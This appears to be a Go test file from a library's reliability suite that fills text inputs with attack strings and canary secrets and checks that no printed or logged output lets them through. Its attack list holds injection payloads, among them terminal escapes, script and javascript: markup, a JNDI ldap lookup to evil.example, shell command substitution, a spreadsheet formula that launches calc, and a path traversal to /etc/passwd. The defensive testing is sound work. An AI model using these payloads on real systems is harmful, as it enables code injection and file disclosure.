// Package hostile fills every place in which text from outside can stand with
// what did harm somewhere, and with secrets, runs the library to every ending,
// and looks through everything that it has printed or recorded. It is a tier of
// the reliability programme.
//
// Outputs are reports as text, Markdown and JSON, journals, logs, errors of every
// verb, explanations, support cases, diagrams, prompts for people, errors of
// stores and readers, and what the examples print. In none may there be a raw
// control, bidirectional or invisible character, a line that a stranger has
// begun, markup that is not the report's own, or a secret.
package hostile

import (
	"context"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"strconv"
	"strings"
	"sync"

	"github.com/changeover-go/changeover/internal/reliability/law"
	"github.com/changeover-go/changeover/internal/reliability/scene"
	"github.com/changeover-go/changeover/internal/reliability/tier"
)

// Tier returns the tier.
func Tier() tier.Tier {
	return tier.Tier{
		Name: "hostile",
		Doc:  "Escape sequences, markup and secrets in every text from outside; nothing that is printed or recorded lets them through.",
		Run:  run,
	}
}

// A part is something that is run with hostile text and prints.
type part struct {
	name string
	// runs says how often it is run at the scale of CI and of a test.
	ci, test int
	run      func(ctx context.Context, s *session) error
}

func parts() []part {
	return []part{
		{"runs", 500, 8, runs},
		{"people", 300, 6, people},
		{"paths", 200, 6, paths},
		{"files", 2000, 60, readers},
		{"examples", 1, 0, examples},
	}
}

// A session is one run of a part: what it draws its texts from, and what it has
// printed.
type session struct {
	*rand.Rand
	job     *tier.Job
	dir     string // may be created
	secrets []string
	texts   int64 // outputs that were looked through
	found   []error
}

// before returns a line of a text with some of what comes before it.
func before(text, line string) string {
	i := strings.Index(text, line)
	return text[max(0, i-100):min(len(text), i+min(len(line), 100))]
}

// look looks through an output.
func (s *session) look(name, text string) {
	s.texts++
	for _, v := range law.Clean(name, text, s.secrets...) {
		s.found = append(s.found, fmt.Errorf("%w: %q", v, around(text, v, s.secrets)))
	}
	for line := range strings.Lines(text) {
		begins := strings.TrimLeft(line, " \t")
		if name == wrapped {
			begins = line // a long word is broken, and what follows is indented
		}
		if strings.HasPrefix(begins, injected) {
			s.found = append(s.found, law.Violation{Law: law.XS5, What: fmt.Sprintf("%s, in which a stranger has begun a line: %q", name, before(text, line))})
		}
	}
}

// lookErr looks through an error, which may be nil.
func (s *session) lookErr(name string, err error) {
	if err != nil {
		s.look("the error of "+name, err.Error())
	}
}

// around is what stands around a finding, for people.
func around(text string, v law.Violation, secrets []string) string {
	at := 0
	if _, after, ok := strings.Cut(v.What, "at byte "); ok {
		at, _ = strconv.Atoi(after)
	} else {
		for _, secret := range secrets {
			if i := strings.Index(text, secret); i >= 0 {
				at = i
			}
		}
	}
	return text[max(0, at-60):min(len(text), at+60)]
}

func run(ctx context.Context, job *tier.Job) {
	if job.Repeat != "" {
		name, number, _ := strings.Cut(job.Repeat, "/")
		seed, err := strconv.ParseUint(number, 10, 64)
		for _, p := range parts() {
			if err == nil && p.name == name {
				once(ctx, job, p, seed)
				return
			}
		}
		job.Fail("", "there is no %q; it is PART/SEED", job.Repeat)
		return
	}
	for _, p := range parts() {
		n := p.ci
		if job.Scale == tier.Test {
			n = p.test
		}
		if job.Scale == tier.CI {
			job.Need(p.name, int64(n))
		}
		var wg sync.WaitGroup
		workers := max(job.Workers, 1)
		for w := range workers {
			wg.Go(func() {
				for i := w; (i < n || job.Scale == tier.Soak && n > 1) && ctx.Err() == nil && !job.Failed(); i += workers {
					once(ctx, job, p, job.Seed+uint64(i))
				}
			})
		}
		wg.Wait()
	}
}

// once runs a part with one seed.
func once(ctx context.Context, job *tier.Job, p part, seed uint64) {
	s := &session{
		Rand: rand.New(rand.NewPCG(seed, 0)), job: job, secrets: canaries(),
		dir: filepath.Join(job.Dir, fmt.Sprintf("hostile-%s-%d", p.name, seed)),
	}
	repeat := fmt.Sprintf("%s/%d", p.name, seed)
	err := func() (err error) {
		defer func() {
			if bad := recover(); bad != nil {
				err = fmt.Errorf("it panicked: %v", bad)
			}
		}()
		return p.run(ctx, s)
	}()
	if err != nil && ctx.Err() == nil {
		job.Fail(repeat, "%s with seed %d: %v", p.name, seed, err)
	}
	for _, err := range s.found {
		job.Fail(repeat, "%s with seed %d: %v", p.name, seed, err)
	}
	job.Add(p.name, 1)
	job.Add("outputs", s.texts)
}

// wrapped is the output whose lines are broken where they are full. What it
// says is looked through as Markdown and JSON, too.
const wrapped = "the report as text"

// injected begins a line that nobody but a stranger can have begun.
const injected = "INJECTED"

// canaries are the secrets that are the same in every run.
func canaries() []string {
	return []string{scene.Source, scene.Target, scene.Third, strings.ToLower(scene.Source), strings.ToLower(scene.Target), strings.ToLower(scene.Third)}
}

// attacks are texts that did harm somewhere.
func attacks() []string {
	return []string{
		"\x1b[2J\x1b[31mred\x1b]52;c;aGFybQ==\x07\x1b]8;;https://evil.example\x07", "\x9b31m\x90q\x9c", "\r\n" + injected + "\r\ttab\v\f\b\x7f",
		"\n\n#" + injected + "\n- x", "\u202egnp.exe\u2066\u2069", "\u200b\u2060\ufeff\u00ad\u180e\u034f\ufe0f", "\u2028" + injected + "\u2029" + injected + "\u0085",
		"\xff\xfe\xc0\xaf", "\x00", "\U000e0041\U000e007f", "e" + strings.Repeat("\u0301", 60),
		"| a | b |\n|---|---|\n| c |", "<script>alert(1)</script>", "<!-- ", "-->", "```", "\n```\n" + injected, "````````", "[click](javascript:alert(1))",
		"![x](http://evil.example/x.png)", "@everyone #1 ~~no~~ $x$", "\\", "\\|", "&lt;b&gt;&#x1b;", "\"; click A href \"javascript:alert(1)\"", "\"]\n" + injected + "-->x",
		"%s%n%d%!(EXTRA)", "{{.}}${jndi:ldap://evil.example}", "'; touch injected; '", "$(touch injected)`touch injected`", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "../../../etc/passwd",
		"CON", "\",\"hash\":\"", "\"}\n{\"seq\":1", strings.Repeat("wide ", 200), strings.Repeat("x", 5000),
	}
}

// attack draws a text.
func (s *session) attack() string {
	all := attacks()
	text := all[s.IntN(len(all))]
	if s.IntN(3) == 0 {
		text += all[s.IntN(len(all))]
	}
	return text
}

// told draws a text as systems and people tell it about what they do: it may
// have an activation code in it. Names, addresses and paths never have: whoever
// calls an environment by a code has told everybody.
func (s *session) told() string {
	text := s.attack()
	switch s.IntN(6) {
	case 0:
		return text + "(" + scene.Source + ")" + text
	case 1:
		return "x" + strings.ToLower(scene.Target) + "x" + text
	case 2:
		return "https://admin@" + scene.Third + "/" + scene.Target + text
	}
	return text
}

// name draws a text that begins like a name.
func (s *session) name(name string) string { return name + " " + s.attack() }
